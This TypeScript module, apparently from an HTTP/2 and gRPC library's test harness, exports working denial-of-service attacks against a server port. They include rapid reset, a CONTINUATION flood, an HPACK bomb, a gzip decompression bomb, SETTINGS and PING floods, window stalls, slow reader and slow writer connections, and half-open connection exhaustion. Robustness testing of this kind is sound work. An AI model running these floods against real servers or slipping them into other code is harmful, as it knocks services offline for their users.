import { gzipSync } from "node:zlib";
import { clientHello, frame, RawPeer, uint32 } from "@weft/http2/testing";

/** One attack on a server: runs until a time, over as many connections as it takes. */
export type Attack = (port: number, untilMs: number) => Promise<void>;

const end = 1;
const whole = 4;
const data = 0;
const headers = 1;
const priority = 2;
const rstStream = 3;
const settings = 4;
const ping = 6;
const windowUpdate = 8;
const continuation = 9;
const unknown = 77;
const none = Buffer.alloc(0);

const emptyCall = callBlock("/grpc.testing.TestService/EmptyCall");
const unaryCall = callBlock("/grpc.testing.TestService/UnaryCall", ["grpc-encoding", "gzip"]);
const streamingCall = callBlock("/grpc.testing.TestService/StreamingOutputCall");
const inputCall = callBlock("/grpc.testing.TestService/StreamingInputCall");
const emptyMessage = message(none);
/** A request for a hundred answers of 16 KB: `response_parameters { size: 16000 }`. */
const manyAnswers = message(Buffer.concat(Array.from({ length: 100 }, () => Buffer.from("120308807d", "hex"))));
const bomb = message(gzipSync(Buffer.alloc(64 * 1024 * 1024)), 1);

/** A gRPC message as it travels. */
function message(content: Buffer, flag = 0): Buffer {
  return Buffer.concat([Buffer.from([flag]), uint32(content.length), content]);
}

/** The header block of a call, from the static table and literals alone. */
function callBlock(path: string, ...fields: readonly (readonly [string, string])[]): Buffer {
  const all = [
    [":path", path],
    [":authority", "a"],
    ["te", "trailers"],
    ["content-type", "application/grpc"],
    ...fields,
  ];
  const literals = all.map(([name = "", value = ""]) =>
    Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]),
  );
  return Buffer.concat([Buffer.from("8386", "hex"), ...literals]);
}

const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
const streamId = (index: number) => index * 2 + 1;

/** Sends pieces as fast as they are taken; begins again on a new connection whenever the server has closed the last. */
function flood(piece: (index: number) => Buffer, first: Buffer = none, together = 200): Attack {
  return async (port, untilMs) => {
    while (Date.now() < untilMs) {
      const peer = new RawPeer(port);
      peer.send(frame(settings, end, 0), first);
      for (let index = 0; Date.now() < untilMs && !peer.closed; index += together) {
        const pieces = Array.from({ length: together }, (_, each) => piece(index + each));
        if (!peer.socket.write(Buffer.concat(pieces))) await Promise.race([drained(peer), pause(50)]);
        else await pause(0);
      }
      peer.destroy();
    }
  };
}

function drained({ socket }: RawPeer): Promise<void> {
  return new Promise((resolve) => {
    socket.once("drain", resolve);
    socket.once("close", resolve);
  });
}

/** Opens connections, does something with each, and keeps them to the end. */
function hold(count: number, hello: Buffer, act: (peer: RawPeer) => void): Attack {
  return async (port, untilMs) => {
    const peers: RawPeer[] = [];
    for (let index = 0; index < count; index++) {
      const peer = new RawPeer(port, hello);
      act(peer);
      peers.push(peer);
      if (index % 50 === 49) await pause(10);
    }
    await pause(untilMs - Date.now());
    for (const peer of peers) peer.destroy();
  };
}

const call = (index: number, block: Buffer, content: Buffer) =>
  Buffer.concat([frame(headers, whole, streamId(index), block), frame(data, end, streamId(index), content)]);

/** What is known to bring servers down, each against the defaults. */
export const attacks: Readonly<Record<string, Attack>> = {
  "rapid reset": flood((index) =>
    Buffer.concat([call(index, emptyCall, emptyMessage), frame(rstStream, 0, streamId(index), uint32(8))]),
  ),
  "reset of calls that work": flood((index) =>
    Buffer.concat([frame(headers, whole, streamId(index), inputCall), frame(rstStream, 0, streamId(index), uint32(8))]),
  ),
  "streams beyond the limit": flood((index) => frame(headers, whole, streamId(index), emptyCall)),
  "100,000 streams left open": hold(100, clientHello, (peer) => {
    peer.send(...Array.from({ length: 1_000 }, (_, index) => frame(headers, whole, streamId(index), inputCall)));
  }),
  "CONTINUATION without end": flood(() => frame(continuation, 0, 1, "0001610162"), frame(headers, 0, 1, emptyCall)),
  "HPACK bomb": flood(
    (index) => frame(headers, whole | end, streamId(index + 1), Buffer.concat([emptyCall, Buffer.alloc(16_000, 0xbe)])),
    frame(
      headers,
      whole | end,
      1,
      Buffer.concat([emptyCall, Buffer.from("40016b7fbd1d", "hex"), Buffer.alloc(3_900, 97)]),
    ),
    10,
  ),
  SETTINGS: flood(() => frame(settings, 0, 0, "000300000064")),
  "SETTINGS that shake the table": flood((index) =>
    frame(settings, 0, 0, index % 2 === 0 ? "000100000000" : "000100001000"),
  ),
  PING: flood(() => frame(ping, 0, 0, "0000000000000000")),
  "answers to no PING": flood(() => frame(ping, end, 0, "0000000000000000")),
  "empty DATA": flood(() => frame(data, 0, 1), frame(headers, whole, 1, inputCall)),
  "DATA of a byte": flood(() => frame(data, 0, 1, "00"), frame(headers, whole, 1, inputCall), 2_000),
  PRIORITY: flood((index) => frame(priority, 0, streamId(index), "0000000010")),
  "unknown frames": flood(() => frame(unknown, 0, 0, "00")),
  "window overflow": flood(() => frame(windowUpdate, 0, 0, uint32(2 ** 31 - 1)), none, 2),
  "WINDOW_UPDATE of a byte": flood(() => frame(windowUpdate, 0, 0, uint32(1)), none, 2_000),
  "zero-window stall": hold(3, clientHello, (peer) => {
    peer.send(frame(settings, 0, 0, "000400000000"));
    for (let index = 0; index < 1_000; index++) peer.send(call(index, streamingCall, manyAnswers));
  }),
  "slow reader": hold(3, clientHello, (peer) => {
    peer.socket.pause();
    peer.send(frame(settings, 0, 0, "00047fffffff"), frame(windowUpdate, 0, 0, uint32(2 ** 30)));
    for (let index = 0; index < 1_000; index++) peer.send(call(index, streamingCall, manyAnswers));
  }),
  "slow writer": hold(50, clientHello, (peer) => {
    for (let index = 0; index < 100; index++)
      peer.send(
        frame(headers, whole, streamId(index), emptyCall),
        frame(data, 0, streamId(index), Buffer.from("0000400000", "hex")),
      );
    const timer = setInterval(() => {
      for (let index = 0; index < 100; index++) peer.send(frame(data, 0, streamId(index), "00"));
    }, 100);
    peer.socket.on("close", () => clearInterval(timer));
  }),
  "promises of 4 GB": flood((index) => call(index, emptyCall, Buffer.from("00ffffffff00", "hex"))),
  "compressed bomb": flood((index) => call(index, unaryCall, bomb.subarray(0, 16_384)), none, 5),
  "whole compressed bombs": flood(
    (index) => {
      const id = streamId(index);
      const parts = Array.from({ length: Math.ceil(bomb.length / 16_384) }, (_, part) =>
        frame(
          data,
          (part + 1) * 16_384 >= bomb.length ? end : 0,
          id,
          bomb.subarray(part * 16_384, (part + 1) * 16_384),
        ),
      );
      return Buffer.concat([frame(headers, whole, id, unaryCall), ...parts]);
    },
    none,
    5,
  ),
  "half-open peers before the preface": hold(2_000, none, () => {}),
  "half-open peers after it": hold(2_000, clientHello, (peer) => peer.send(frame(settings, end, 0))),
  "handshakes and no more": flood(() => none, frame(7, 0, 0, "0000000000000000"), 1),
};
